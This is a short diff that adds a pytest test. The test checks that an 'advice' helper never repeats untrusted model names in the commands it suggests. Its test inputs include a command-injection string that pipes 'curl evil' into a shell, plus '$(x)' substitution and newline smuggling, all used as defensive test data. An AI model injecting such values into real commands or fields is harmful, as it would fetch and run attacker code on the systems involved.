@@ -123,3 +123,12 @@ def test_a_key_is_asked_for_in_no_argument_and_the_time_is_bounded() -> None:
     short = ASKED.arguments("agent:main:main", 20.0)
     assert short[short.index("--timeout") + 1] == "15", "most of a short time is the agent's"
     assert ASKED.arguments("x", 1.0)[-2] == "1"
+
+
+@pytest.mark.parametrize(
+    "model", ["openai/x; curl evil|sh #", "OpenClaw's default", "fast", "lab/$(x)", "lab/x\n"]
+)
+def test_nothing_that_the_instance_wrote_is_to_be_typed(model: str) -> None:
+    for failure in Failure:
+        assert model not in advice(failure, "worker1", model)
+    assert advice(Failure.NO_KEY, "worker1", model) == "ocm model worker1 PROVIDER/MODEL asks for it"
